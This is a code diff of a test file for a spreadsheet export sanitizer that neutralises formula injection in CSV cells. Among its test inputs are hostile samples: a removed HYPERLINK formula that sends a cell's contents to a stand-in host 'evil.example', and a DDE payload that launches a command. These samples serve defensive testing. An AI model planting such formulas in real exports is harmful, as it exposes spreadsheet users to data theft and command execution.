@@ -1,7 +1,16 @@
 import { expect, test } from 'vitest'
-import { toCsv } from '../../../../server/backend/print-rows.ts'
+import { addressTitle, withoutFormulas } from '../../../../server/backend/print-rows.ts'
 
-const hostile = [
+/** The cell of a message after the formulas were made harmless. */
+async function harmless(text: string, title = 'message'): Promise<string | undefined> {
+  async function* rows() {
+    yield ['received', title]
+    yield ['2026-03-01', text]
+  }
+  return (await Array.fromAsync(withoutFormulas(rows())))[1]?.[1]
+}
+
+test.each([
   '=1+1',
   '+49 170 1234567',
   '-1+1',
@@ -10,62 +19,32 @@ const hostile = [
   '\t=1+1',
   '\r=1+1',
   '＝1+1',
-  'Ann;=1+2',
-  'Hallo;=HYPERLINK("https://evil.example/?"&A1;"Rechnung")',
-  'Hallo; =1+1',
-  'Hallo;"=1+1"',
-  'Hallo;";"=1+1',
-  'one\n=1+1\n-2\r\n+3\n@x',
-  'tab\t=1+1',
-  'a,=1+1',
   '"=1+1',
-]
+  '- list\n- more',
+])('A cell that begins with a formula gets an apostrophe: %j', async (text) =>
+  expect(await harmless(text)).toMatch(/^'/),
+)
 
-test.each([',', ';', '\t'])('No cell is a formula for a spreadsheet that splits at %j', (separator) => {
-  for (const text of hostile) {
-    const cells = cellsIn(
-      toCsv([
-        ['2026-03-01', text, 'end'],
-        ['2026-03-02', 'before', text],
-      ]),
-      separator,
-    ).flat()
-    expect(
-      cells.filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell)),
-      JSON.stringify(text),
-    ).toEqual([])
-  }
-})
+test.each([
+  ['Ann;=1+2', "Ann;'=1+2"],
+  ['Hallo; "=HYPERLINK(A1)"', `Hallo; "'=HYPERLINK(A1)"`],
+  ['a,=1+1\tb', "a,'=1+1\tb"],
+  ["one\n=1\r\n@x\n+cmd|'/c calc'!A0\n-SUM(A1)", "one\n'=1\r\n'@x\n'+cmd|'/c calc'!A0\n'-SUM(A1)"],
+])('So does what a spreadsheet that splits elsewhere takes for one: %j', async (text, expected) =>
+  expect(await harmless(text)).toBe(expected),
+)
 
-test('A reader that splits at commas gets every cell as written, apart from apostrophes', () => {
-  const rows = hostile.map((text) => ['2026-03-01', text, 'end'])
-  expect(cellsIn(toCsv(rows), ',').map((row) => row.map((cell) => cell.replaceAll("'", '')))).toEqual(rows)
-})
+test.each([
+  'Ann-Kathrin',
+  'Zu tun:\n- Rechnungen\n- Angebot: 3-5 Tage; danke!\n+49 170 1234567',
+  'a = b - c, x@y.example',
+])('Other text is not changed: %j', async (text) => expect(await harmless(text)).toBe(text))
 
-test('Text without formulas is not changed', () => {
-  const row = ['Ann-Kathrin', 'ann+news@example.com', 'Angebot: 3-5 Tage; danke!\nTel. +49', 'a = b - c']
-  expect(cellsIn(toCsv([row]), ',')).toEqual([row])
-})
+test.each(['+jo@example.com', '=jo@example.com', '-jo@example.com'])('No address is changed: %s', async (address) =>
+  expect(await harmless(address, addressTitle)).toBe(address),
+)
 
-/** The cells as a spreadsheet reads them: quotes protect a cell only if it begins with one; text after them is part of it. */
-function cellsIn(csv: string, separator: string): string[][] {
-  const rows: string[][] = []
-  let row: string[] = []
-  let rest = csv
-  while (rest !== '') {
-    const [quoted = ''] = /^"(?:[^"]|"")*"/.exec(rest) ?? []
-    rest = rest.slice(quoted.length)
-    const end = rest.search(/[\r\n]/)
-    const next = rest.indexOf(separator)
-    const length = next >= 0 && next < end ? next : end
-    row.push(quoted.slice(1, -1).replaceAll('""', '"') + rest.slice(0, length))
-    rest = rest.slice(length)
-    if (rest.startsWith(separator)) rest = rest.slice(separator.length)
-    else {
-      rest = rest.replace(/^\r?\n|^\r/, '')
-      rows.push(row)
-      row = []
-    }
-  }
-  return rows
-}
+test('Hostile text costs linear time', async () => {
+  const text = `${' '.repeat(50_000)}${'+'.repeat(50_000)}${'\n+'.repeat(50_000)}`
+  expect(await harmless(text)).toContain(text.trimStart())
+}, 2000)
